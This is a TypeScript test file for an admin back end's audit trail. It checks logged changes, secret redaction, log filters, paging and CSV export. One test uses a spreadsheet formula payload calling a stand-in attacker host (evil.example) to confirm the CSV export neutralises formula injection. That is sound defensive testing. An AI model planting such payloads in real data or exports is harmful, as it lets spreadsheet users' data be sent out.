// @vitest-environment node
// The audit recorder: each write kind recorded once with the right before and after, failed
// writes never, no secrets; the audit log's filters, paging and CSV; a member's timeline.
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_ADMIN } from '../serve.mjs';
import type { AuditEntry } from './audit.ts';
import { diff, flat, RECIPES } from './audit.ts';
import { parseCsv } from '../../src/lib/csv.ts';
import { isExpired } from './rules.ts';
import { startThroughPrism } from './through-prism.ts';

let backEnd: Awaited<ReturnType<typeof startThroughPrism>>;
let token = '';

beforeAll(async () => {
  backEnd = await startThroughPrism();
  token = await backEnd.adminToken();
}, 60_000);
afterAll(async () => backEnd?.stop());

const call = (method: string, path: string, json?: unknown) =>
  backEnd.call(method, path, { token, ...(json === undefined ? {} : { json }) });
const state = () => backEnd.store.state();
const entries = () => state().audit.entries;
/** The entries a step adds. */
async function added(step: () => Promise<unknown>): Promise<AuditEntry[]> {
  const count = entries().length;
  await step();
  return entries().slice(count);
}
const admin = () => state().accounts.find((a) => a.user.role === 'administrator')!.user;

/** Members nobody else in this file uses: with nothing joined, from the end of the list. */
const freeMembers = () =>
  state()
    .members.filter((m) => state().joined(m._id).length === 0)
    .slice(-40);

describe('the recorder', () => {
  it('records a mission created, updated (changed fields only) and deleted, by the admin', async () => {
    const draft = {
      name: 'Audit Trail Check',
      description: 'One visit.',
      category: 1,
      type: 'VisitBased',
      pointsReward: 30,
      visitLimit: 1,
      dueDate: '2099-04-30',
    };
    let id = '';
    const [created, ...more] = await added(async () => {
      const answer = await call('POST', '/api/missions', draft);
      id = (answer.data as { data: { _id: string } }).data._id;
    });
    expect(more).toEqual([]);
    expect(created).toMatchObject({
      action: 'mission.created',
      actor: { _id: admin()._id, fullName: admin().fullName },
      entity: { type: 'mission', _id: id, label: 'Audit Trail Check' },
    });
    expect(created!.changes).toContainEqual({ field: 'pointsReward', after: 30 });
    expect(created!.changes.every((c) => !('before' in c))).toBe(true);

    const [updated, ...none] = await added(() =>
      backEnd.call('PUT', `/api/missions/${id}`, {
        token,
        json: { ...draft, pointsReward: 45 },
        headers: { 'if-match': '*' },
      }),
    );
    expect(none).toEqual([]);
    expect(updated).toMatchObject({ action: 'mission.updated' });
    expect(updated!.changes).toEqual([{ field: 'pointsReward', before: 30, after: 45 }]);

    const [deleted] = await added(() => call('DELETE', `/api/missions/${id}`));
    expect(deleted).toMatchObject({ action: 'mission.deleted', entity: { _id: id } });
    expect(deleted!.changes).toContainEqual({ field: 'pointsReward', before: 45 });
  });

  it('records nothing for a refused or failed write', async () => {
    const none = await added(async () => {
      expect((await call('DELETE', '/api/missions/6c0000000000000000ffffff')).status).toBe(404);
      const past = await call('POST', '/api/missions', {
        name: 'Too late',
        description: '',
        category: 1,
        type: 'VisitBased',
        pointsReward: 10,
        visitLimit: 1,
        dueDate: '2020-01-01',
      });
      expect(past.status).toBe(400);
      expect((await call('POST', '/api/notification/broadcast', { body: '  ' })).status).toBe(400);
    });
    expect(none).toEqual([]);
  });

  it('records a member joined, a visit (progress and points) and a redemption on the timeline', async () => {
    const later = new Date(Date.now() + 30 * 86_400_000);
    const mission = state().missions.find(
      (m) =>
        m.category.code === 2 && m.type === 'PointBased' && m.visitLimit && !isExpired(m, later),
    )!;
    const member = freeMembers()[0]!;
    const [joined] = await added(() =>
      call('POST', '/api/point-mission/join', { userId: member._id, missionId: mission._id }),
    );
    expect(joined).toMatchObject({
      action: 'mission.joined',
      memberId: member._id,
      entity: { type: 'mission', _id: mission._id, label: mission.name },
    });
    const points = state().member(member._id)!.points;
    const [visit] = await added(async () => {
      const answer = await call(
        'POST',
        `/api/point-mission/admin-scan/${member._id}/${mission._id}`,
        {
          userId: member._id,
          missionId: mission._id,
        },
      );
      expect(answer.status, JSON.stringify(answer)).toBe(200);
    });
    const scan = state().scans.at(-1)!;
    expect(visit).toMatchObject({
      action: 'visit.recorded',
      memberId: member._id,
      entity: { type: 'visit', _id: scan._id, label: mission.name },
      reversal: { operation: 'reverseVisit', _id: scan._id },
    });
    expect(visit!.changes).toEqual([
      { field: 'progress', before: 0, after: 1 },
      { field: 'points', before: points, after: points + mission.pointsReward },
    ]);

    const rich = state().member(member._id)!;
    state().replaceMember(rich, { ...rich, points: 100_000 });
    const reward = state().rewards.find((r) => state().isActive(r._id))!;
    const [redeemed] = await added(() =>
      call('POST', '/api/vouchers/redeem', { userId: member._id, rewardId: reward._id }),
    );
    expect(redeemed).toMatchObject({ action: 'reward.redeemed', memberId: member._id });
    expect(redeemed!.changes).toEqual([
      { field: 'points', before: 100_000, after: 100_000 - reward.pointsRequired },
      { field: 'pointsUsed', before: null, after: reward.pointsRequired },
    ]);
    expect(JSON.stringify(redeemed)).not.toContain(state().history(member._id)[0]!.code);

    const timeline = await call('GET', `/api/users/${member._id}/activity?page=1&limit=10`);
    expect(timeline.status).toBe(200);
    const page = timeline.data as { entries: AuditEntry[]; total: number };
    expect(page.entries.slice(0, 3).map((e) => e.action)).toEqual([
      'reward.redeemed',
      'visit.recorded',
      'mission.joined',
    ]);
    expect(page.total).toBe(state().audit.ofMember(member._id).length);
  });

  it('records a profile edit field by field, and a reassignment', async () => {
    const member = freeMembers().find((m) => m.signupMethod !== 'whatsapp')!;
    const [edited] = await added(async () => {
      const answer = await backEnd.call('PUT', `/api/profile/${member._id}`, {
        token,
        form: { fullName: 'Audit Renamed', whatsAppNumber: '+447911123456' },
      });
      expect(answer.status, JSON.stringify(answer)).toBe(200);
    });
    expect(edited).toMatchObject({
      action: 'member.updated',
      memberId: member._id,
      entity: { type: 'member', _id: member._id, label: 'Audit Renamed' },
    });
    expect(edited!.changes).toContainEqual({
      field: 'fullName',
      before: member.fullName,
      after: 'Audit Renamed',
    });
    expect(edited!.changes).toContainEqual({
      field: 'whatsAppNumber',
      before: member.whatsAppNumber ?? null,
      after: '+447911123456',
    });
    expect(edited!.changes.map((c) => c.field)).not.toContain('updatedAt');

    const place = [...state().participations.values()].flat().find((p) => !p.unassignedByAdmin)!;
    place.unassignedByAdmin = true;
    const [reassigned] = await added(() =>
      call('PUT', `/api/missions/${place.missionId}/reassign/${place.userId}`),
    );
    expect(reassigned).toMatchObject({ action: 'member.reassigned', memberId: place.userId });
    expect(reassigned!.changes).toEqual([
      { field: 'unassignedByAdmin', before: true, after: false },
    ]);
  });

  it('records a reward with its picture as an address, never the bytes, and broadcasts', async () => {
    const png = new File(
      [
        new Uint8Array(
          await sharp({ create: { width: 20, height: 20, channels: 3, background: '#00897b' } })
            .png()
            .toBuffer(),
        ),
      ],
      'audit.png',
      { type: 'image/png' },
    );
    const [created] = await added(() =>
      backEnd.call('POST', '/api/rewards', {
        token,
        form: { name: 'Audit Tote', pointsRequired: '90', image: png },
      }),
    );
    const image = created!.changes.find((c) => c.field === 'image');
    expect(image?.after).toMatch(/^\/api\/media\/rewards\/uploads\//);
    expect(JSON.stringify(created).length).toBeLessThan(2000);

    const [sent] = await added(() =>
      call('POST', '/api/notification/broadcast', { body: 'Audit: the clinic opens at nine.' }),
    );
    expect(sent).toMatchObject({ action: 'broadcast.sent', entity: { type: 'broadcast' } });
    // The message with its schedule, channel, audience and reach: to whom it went is part of the record.
    expect(sent!.changes.map((c) => c.field)).toEqual([
      'body',
      'sendAt',
      'channel',
      'audience',
      'audienceMembers',
      'reached',
      'status',
    ]);
    const members = state().members.filter((m) => !m.anonymisedAt).length;
    expect(sent!.changes.slice(0, 5)).toEqual([
      { field: 'body', after: 'Audit: the clinic opens at nine.' },
      { field: 'sendAt', after: expect.stringMatching(/^20\d\d-/) },
      { field: 'channel', after: 'push' },
      { field: 'audience', after: 'all' },
      { field: 'audienceMembers', after: expect.any(Number) },
    ]);
    expect(sent!.changes[4]!.after).toBeGreaterThanOrEqual(members);
    expect(sent!.changes[5]!.after).toBeLessThanOrEqual(sent!.changes[4]!.after as number);

    // A tier's message names the tier.
    const [gold] = await added(() =>
      call('POST', '/api/notification/broadcast', {
        body: 'Audit: Gold evening.',
        channel: 'email',
        audience: { kind: 'tier', tier: 'Gold' },
      }),
    );
    expect(gold!.changes).toContainEqual({ field: 'audience', after: 'Gold' });
  });

  it('records advertisement reordering as the order of titles before and after', async () => {
    const ids = state().advertisements.map((ad) => ad._id);
    const titles = state().advertisements.map((ad) => ad.title);
    const [moved] = await added(() =>
      call('PUT', '/api/advertisements/order', { ids: [ids[1], ids[0]] }),
    );
    expect(moved).toMatchObject({ action: 'advertisement.reordered' });
    expect(moved!.changes).toEqual([
      { field: 'order', before: titles, after: [titles[1], titles[0], ...titles.slice(2)] },
    ]);
    await call('PUT', '/api/advertisements/order', { ids: [ids[0], ids[1]] });
  });

  it('never records a secret, and signing in records nothing', async () => {
    const none = await added(() =>
      backEnd.call('POST', '/api/auth/login', {
        json: { email: DEMO_ADMIN.email, password: DEMO_ADMIN.password },
      }),
    );
    expect(none).toEqual([]);
    expect(
      flat({ name: 'x', password: 'p', newPassword: 'q', token: 't', code: 'VOUCHER' }),
    ).toEqual({ name: 'x' });
    expect(JSON.stringify(entries())).not.toContain(DEMO_ADMIN.password);
    expect(RECIPES.signIn).toBeUndefined();
  });

  it('records a visit reversed with its reason; the visit then offers no reversal', async () => {
    const later = new Date(Date.now() + 30 * 86_400_000);
    const mission = state().missions.find(
      (m) =>
        m.category.code === 2 && m.type === 'PointBased' && m.visitLimit && !isExpired(m, later),
    )!;
    const member = freeMembers()[1]!;
    await call('POST', '/api/point-mission/join', { userId: member._id, missionId: mission._id });
    const [visit] = await added(() =>
      call('POST', `/api/point-mission/admin-scan/${member._id}/${mission._id}`, {
        userId: member._id,
        missionId: mission._id,
      }),
    );
    const visitId = visit!.entity._id;
    const [reversed] = await added(() =>
      call('POST', `/api/visits/${visitId}/reverse`, { reason: 'Recorded for the wrong member' }),
    );
    expect(reversed).toMatchObject({
      action: 'visit.reversed',
      memberId: member._id,
      entity: { type: 'visit', _id: visitId, label: mission.name },
      reason: 'Recorded for the wrong member',
    });
    expect(reversed!.changes).toEqual([
      { field: 'progress', before: 1, after: 0 },
      {
        field: 'points',
        before: visit!.changes[1]!.after,
        after: visit!.changes[1]!.before,
      },
    ]);
    expect(entries().find((e) => e._id === visit!._id)?.reversal).toBeUndefined();
  });

  it('records a points adjustment as reversible, and its reversal, on the member timeline', async () => {
    const member = freeMembers()[0]!;
    let id = '';
    const [adjusted] = await added(async () => {
      const answer = await call('POST', `/api/users/${member._id}/points-adjustments`, {
        amount: 40,
        reason: 'goodwill',
      });
      id = (answer.data as { _id: string })._id;
    });
    expect(adjusted).toMatchObject({
      action: 'points.adjusted',
      memberId: member._id,
      entity: { type: 'points-adjustment', _id: id },
      reason: 'goodwill',
      reversal: { operation: 'reversePointsAdjustment', _id: id },
    });
    const [reversed] = await added(() =>
      call('POST', `/api/points-adjustments/${id}/reverse`, { reason: 'Given twice' }),
    );
    expect(reversed).toMatchObject({
      action: 'points.adjustment-reversed',
      reason: 'Given twice',
      changes: expect.arrayContaining([{ field: 'reversed', before: false, after: true }]),
    });
    expect(reversed!.reversal).toBeUndefined();
    expect(entries().find((e) => e._id === adjusted!._id)?.reversal).toBeUndefined();
  });

  it("records an admin's own name change and a password change, never the password", async () => {
    const sofia = { email: 'sofia.marin@londonclinic.example' };
    const account = state().accounts.find((a) => a.user.email === sofia.email)!;
    const own = await backEnd.signInAs({ email: sofia.email, password: account.password });
    const was = account.user.fullName;
    const renamed = await added(() =>
      backEnd.call('PUT', '/api/admin/me', {
        token: own,
        form: { fullName: 'Sofia Marin-Ruiz' },
        headers: { 'if-match': '*' },
      }),
    );
    await backEnd.call('PUT', '/api/admin/me', {
      token: own,
      form: { fullName: was },
      headers: { 'if-match': '*' },
    });
    expect(renamed).toMatchObject([
      {
        action: 'account.updated',
        actor: { fullName: was },
        entity: { type: 'account', _id: account.user._id, label: 'Sofia Marin-Ruiz' },
        changes: [{ field: 'fullName', before: was, after: 'Sofia Marin-Ruiz' }],
      },
    ]);
    const changed = await added(() =>
      backEnd.call('PUT', '/api/admin/me/password', {
        token: own,
        json: { currentPassword: account.password, newPassword: account.password },
      }),
    );
    expect(changed).toMatchObject([{ action: 'account.password-changed', changes: [] }]);
    expect(JSON.stringify(changed)).not.toContain(account.password);
  });

  it('diffs: changed fields only, created after only, deleted before only', () => {
    const a = { label: 'a', fields: { x: 1, y: 'same' } };
    const b = { label: 'b', fields: { x: 2, y: 'same', z: true } };
    expect(diff(a, b)).toEqual([
      { field: 'x', before: 1, after: 2 },
      { field: 'z', before: null, after: true },
    ]);
    expect(diff(undefined, a)).toEqual([
      { field: 'x', after: 1 },
      { field: 'y', after: 'same' },
    ]);
    expect(diff(a, undefined)).toEqual([
      { field: 'x', before: 1 },
      { field: 'y', before: 'same' },
    ]);
  });
});

describe('the audit log', () => {
  it('has a seeded history of several admins over weeks, newest first', async () => {
    const answer = await call('GET', '/api/audit-log?page=1&limit=50');
    expect(answer.status).toBe(200);
    const page = answer.data as { entries: AuditEntry[]; total: number; actors: unknown[] };
    expect(page.total).toBeGreaterThan(1000);
    expect(page.actors.length).toBeGreaterThanOrEqual(4);
    const times = page.entries.map((e) => e.at);
    expect([...times].sort().reverse()).toEqual(times);
  });

  it('filters by actor, action, entity and dates, and pages', async () => {
    const actor = 'Olivia Bennett';
    const all = await call('GET', '/api/audit-log?limit=50');
    const olivia = (all.data as { actors: { _id: string; fullName: string }[] }).actors.find(
      (a) => a.fullName === actor,
    )!;
    const q = `actor=${olivia._id}&action=reward.created&entity=reward&from=2025-01-01&to=2026-11-22`;
    const page1 = (await call('GET', `/api/audit-log?${q}&page=1&limit=10`)).data as {
      entries: AuditEntry[];
      total: number;
    };
    expect(page1.total).toBeGreaterThan(0);
    for (const e of page1.entries) {
      expect(e).toMatchObject({ actor: { fullName: actor }, action: 'reward.created' });
      expect(e.at >= '2025-01-01' && e.at <= '2026-11-23').toBe(true);
    }
    const later = (await call('GET', `/api/audit-log?${q}&page=99&limit=10`)).data as {
      entries: AuditEntry[];
    };
    expect(later.entries).toEqual([]);
    // Days the wrong way round match nothing (the contract lets any two days through).
    const wrong = await call('GET', '/api/audit-log?from=2026-11-22&to=2026-11-01');
    expect(wrong).toMatchObject({ status: 200, data: { entries: [], total: 0 } });
  });

  it('exports the whole filtered list as CSV', async () => {
    const answer = await backEnd.call('GET', '/api/audit-log?action=broadcast.sent&limit=10', {
      token,
      headers: { accept: 'text/csv' },
    });
    expect(answer.type).toContain('text/csv');
    const lines = String(answer.data).trim().split('\r\n');
    expect(lines[0]).toBe(
      'id,at,actorId,actor,action,entityType,entityId,entity,memberId,reason,changes',
    );
    const sent = entries().filter((e) => e.action === 'broadcast.sent').length;
    expect(lines.length - 1).toBeGreaterThanOrEqual(sent);
    expect(lines.length - 1).toBeGreaterThan(10);
  });

  it('exports a label and a reason that start a formula as text', async () => {
    const name = '\t=1+2';
    const created = await call('POST', '/api/missions', {
      name: '=IMPORTXML("https://evil.example","//a")',
      description: 'A mission whose name a spreadsheet would run.',
      category: 1,
      type: 'VisitBased',
      pointsReward: 80,
      visitLimit: 2,
      dueDate: '2099-04-30',
    });
    expect(created.status).toBe(200);
    const entry = entries().at(-1)!;
    // A reason as an admin could type it (only the points adjustment asks for one).
    entry.reason = name;
    const answer = await backEnd.call('GET', '/api/audit-log?action=mission.created', {
      token,
      headers: { accept: 'text/csv' },
    });
    const row = parseCsv(String(answer.data)).find((r) => r[0] === entry._id);
    expect(row?.[7]).toBe('\'=IMPORTXML("https://evil.example","//a")');
    expect(row?.[9]).toBe("'\t=1+2");
  });

  it("answers 404 for an unknown member's timeline", async () => {
    const answer = await call('GET', '/api/users/6b0000000000000000ffffff/activity');
    expect(answer).toMatchObject({ status: 404, data: { error: 'User not found' } });
  });
});
